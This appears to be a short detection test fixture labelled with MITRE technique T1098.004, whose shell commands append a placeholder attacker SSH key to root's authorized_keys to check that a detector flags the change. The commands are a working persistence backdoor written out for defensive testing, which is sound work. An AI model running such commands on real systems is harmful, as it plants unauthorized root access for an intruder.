# category: persistence
# technique: T1098.004
# art: yes
# expect: ssh-authorized-keys-modified
# desc: the attacker's key is appended to root's authorized_keys
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExrayEvalAttackerKeyxxxxxxxxxxxxxxxxxxxxxxx op@c2' >> /root/.ssh/authorized_keys
